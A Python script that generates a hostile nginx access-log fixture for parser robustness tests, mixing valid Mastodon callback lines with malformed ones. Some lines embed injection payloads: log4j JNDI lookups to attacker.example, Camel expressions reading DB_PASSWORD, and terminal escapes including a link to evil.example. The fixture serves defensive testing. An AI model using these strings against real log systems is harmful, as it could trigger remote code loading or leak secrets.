# Regenerates hostile-access.txt (raw bytes: NULs, bytes that are not UTF-8, terminal escapes, CR), used by
# RecoverHostileLogTest and FollowAccessLogRouteTest. Run from the repository root:
#   python3 src/test/resources/recover/make-hostile-access.py src/test/resources/recover/hostile-access.txt
# Writes src/test/resources/recover/hostile-access.txt: 21 lines (19 non-blank, 2 blank), 11 malformed, 8 valid of
# which 6 are refused subscription callbacks (101 x3, 102, 103, 99999999999999999999999999). All dates old.
import sys
PUSH = b'"http.rb/4.4.1 (Mastodon/PubSubHubbub; +https://remote.example/)"'
def t(s): return b'[' + s + b' +0000]'
lines = [
 # 1 valid, not a callback: a browser
 b'198.51.100.20 - - ' + t(b'20/Nov/2026:09:15:01') + b' "GET /@alice HTTP/2.0" 200 5120 "-" "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"',
 # 2 malformed: a JSON log line (another log_format)
 b'{"time":"2026-11-20T09:15:02+00:00","remote_addr":"198.51.100.4","request":"POST /api/subscriptions/101 HTTP/1.1","status":404,"http_user_agent":"http.rb/4.4.1 (Mastodon/PubSubHubbub; +https://remote.example/)"}',
 # 3 malformed: the common format (no referer, no user agent)
 b'192.0.2.44 - - ' + t(b'20/Nov/2026:09:15:03') + b' "POST /api/subscriptions/101 HTTP/1.1" 404 0',
 # 4 malformed: an error-log line with terminal escapes (clear screen, colours, window title, bell)
 b'\x1b[2J\x1b[H\x1b]0;pwned\x07\x1b[31m2026/11/20 09:15:04 [error]\x1b[0m 1234#1234: *5 upstream timed out (110: Connection timed out) while reading response header from upstream',
 # 5 malformed: cut off in the middle (the crash that left the padding below)
 b'203.0.113.7 - - ' + t(b'20/Nov/2026:09:15:05') + b' "POST /api/subscriptions/101 HTTP/1.1" 404 0 "-" "http.rb/4.4.1 (Masto',
 # 6 malformed: impossible date
 b'203.0.113.7 - - [32/Nov/2026:09:15:06 +0000] "POST /api/subscriptions/102 HTTP/1.1" 404 0 "-" ' + PUSH,
 # 7 malformed: expressions (Camel simple, log4j lookups, format strings) where a log line should be
 b'${bean:jobControl?method=finish(0)} $simple{sysenv.PATH} ${sysenv.DB_PASSWORD} ${header.CamelFileName} ${jndi:ldap://attacker.example/a} %s%n{}',
 # 8 malformed: a raw TLS handshake with NULs and bytes that are not UTF-8
 b'\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\xa7\x9f\xc0\x80\xff\xfe\x00\x00\x1b[0m',
 # 9 valid callback 101, behind the NUL padding a crash leaves
 b'\x00' * 4096 + b'203.0.113.7 - - ' + t(b'20/Nov/2026:09:15:09') + b' "POST /api/subscriptions/101 HTTP/1.1" 404 0 "-" ' + PUSH,
 # 10 blank
 b'',
 # 11 valid callback 101, expressions in the user agent (never evaluated)
 b'203.0.113.7 - - ' + t(b'20/Nov/2026:09:15:11') + b' "POST /api/subscriptions/101 HTTP/1.1" 410 0 "${bean:jobControl?method=finish(0)}" "http.rb/4.4.1 (Mastodon/PubSubHubbub; +https://remote.example/) ${sysenv.PATH} $simple{exchange} ${exchangeProperty.line} ${jndi:ldap://attacker.example/a}"',
 # 12 valid callback 101, Windows line end
 b'203.0.113.7 - - ' + t(b'20/Nov/2026:09:15:12') + b' "POST /api/subscriptions/101?hub.mode=subscribe HTTP/1.1" 302 0 "-" ' + PUSH + b'\r',
 # 13 malformed: a carriage return first (overwrites the terminal line), an IIS (W3C) line, CRLF end
 b'\r2026-11-20 09:15:13 10.0.0.1 POST /api/subscriptions/103 - 443 - 192.0.2.10 http.rb/4.4.1+(Mastodon/PubSubHubbub;+https://third.example/) - 404 0 0 15\r',
 # 14 malformed: an escaped quote that swallows the rest of the line
 b'10.0.0.9 - - ' + t(b'20/Nov/2026:09:15:14') + b' "POST /api/subscriptions/103\\" 404 0 "-" ' + PUSH,
 # 15 valid callback 102, bytes that are not UTF-8 in referer and user agent
 b'198.51.100.8 - - ' + t(b'20/Nov/2026:09:15:15') + b' "POST /api/subscriptions/102 HTTP/1.1" 301 178 "https://other.example/caf\xe9" "http.rb/4.4.1 (Mastodon/PubSubHubbub; +https://other.example/) \xff\xfe\xc3("',
 # 16 malformed: terminal escapes and an unterminated user agent
 b'203.0.113.9 - - ' + t(b'20/Nov/2026:09:15:16') + b' "GET / HTTP/1.1" 200 0 "-" "\x1b[2J\x1b[1;1H\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\',
 # 17 valid callback 103, nginx's \x22 escapes in the user agent
 b'192.0.2.10 - - ' + t(b'20/Nov/2026:09:15:17') + b' "POST /api/subscriptions/103 HTTP/1.1" 404 0 "-" "http.rb/4.4.1 \\x22(Mastodon/PubSubHubbub)\\x22 \\x1B[31m"',
 # 18 blank: NUL padding only
 b'\x00' * 512,
 # 19 valid callback for an id no account can have (beyond a 64-bit number)
 b'203.0.113.66 - - ' + t(b'19/Nov/2026:23:59:59') + b' "POST /api/subscriptions/99999999999999999999999999 HTTP/1.1" 404 0 "-" ' + PUSH,
 # 20 valid, not a callback: a TLS handshake on the plain-text port, escaped by nginx (no path)
 b'198.51.100.9 - - ' + t(b'20/Nov/2026:09:15:20') + b' "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03" 400 157 "-" "-"',
 # 21 malformed: HTTP/2 connection preface bytes (nginx never writes this), NUL in the middle
 b'PRI * HTTP/2.0 SM \x00\x00\x12\x04\x00\x00\x00\x00\x00 ' + t(b'20/Nov/2026:09:15:21'),
]
assert len(lines) == 21
for l in lines:
    assert b'\n' not in l
    assert b'\r' not in l[1:-1], l[:40]
open(sys.argv[1], 'wb').write(b'\n'.join(lines) + b'\n')
